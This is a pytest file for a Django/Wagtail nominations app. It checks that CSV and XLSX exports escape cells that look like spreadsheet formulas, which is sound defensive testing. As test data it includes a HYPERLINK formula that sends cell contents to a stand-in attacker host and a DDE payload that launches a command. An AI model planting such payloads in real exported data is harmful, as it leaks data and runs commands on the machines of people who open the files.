"""Text typed by officers stays text in the office's spreadsheets, never a formula.

A nominee named "=HYPERLINK(...)" or a position "+1" would run as a formula when the
office opens the CSV or XLSX export (OWASP, "CSV injection"). CSV cells get Excel's
leading apostrophe; XLSX cells stay strings marked with Excel's quote prefix.
"""

import csv
import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from exemplars.factories import WorkFactory

from .nominations import DISTRICT, nominate

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
FORMULAS = {"name": HYPERLINK, "position": "+1", "achievements": "-2 giờ @SUM(A1:A9)"}
AT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def formulas(org):
    first = nominate(org, "a", DISTRICT, **FORMULAS)
    second = nominate(org, "a", DISTRICT, name=AT_NAME, position="\tChủ tịch", achievements="\r=1+1")
    return first, second


def nominations_export(client, org, export_format: str) -> bytes:
    client.force_login(org.users["province_office"])
    url = reverse("wagtailsnippets_nominations_nomination:list") + f"?export={export_format}&q="
    response = client.get(url)
    assert response.status_code == 200
    return body_of(response)


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe(client, org, formulas):
    rows = list(csv.reader(io.StringIO(nominations_export(client, org, "csv").decode("utf-8"))))
    by_name = {row[1]: row for row in rows[1:]}
    first = by_name["'" + HYPERLINK]
    assert first[2] == "'+1" and first[5] == "'-2 giờ @SUM(A1:A9)"
    second = by_name["'" + AT_NAME]
    assert second[2] == "'\tChủ tịch" and second[5] == "'\r=1+1"
    plain = by_name[org.nominations["a"].name]
    assert plain[1] == org.nominations["a"].name, "ordinary text is untouched"
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, len(rows))], "STT stays a number"


def test_xlsx_cells_that_look_like_formulas_are_text_with_a_quote_prefix(client, org, formulas):
    sheet = load_workbook(io.BytesIO(nominations_export(client, org, "xlsx"))).active
    rows = list(sheet.iter_rows())[1:]
    by_name = {row[1].value: row for row in rows}
    for name, columns in ((HYPERLINK, (1, 2, 5)), (AT_NAME, (1, 2, 5))):
        row = by_name[name]
        for column in columns:
            cell = row[column]
            assert cell.data_type == "s", (name, column)
            assert cell.quotePrefix, (cell.value, "stays text when edited")
    assert by_name[HYPERLINK][2].value == "+1", "the text itself reads unchanged"
    plain = by_name[org.nominations["a"].name]
    assert not plain[1].quotePrefix
    assert all(isinstance(row[0].value, int) for row in rows), "STT stays a number"


def test_the_other_exports_are_formula_safe_too(client, org):
    WorkFactory(campaign=org.site.campaign, unit=org.units["a"], title="=1+2", place="@thôn")
    client.force_login(org.users["officer_a"])
    url = reverse("wagtailsnippets_exemplars_work:list") + "?export=csv"
    rows = list(csv.reader(io.StringIO(body_of(client.get(url)).decode("utf-8"))))
    (row,) = [row for row in rows if row[0].endswith("=1+2")]
    assert row[0] == "'=1+2" and row[5] == "'@thôn"
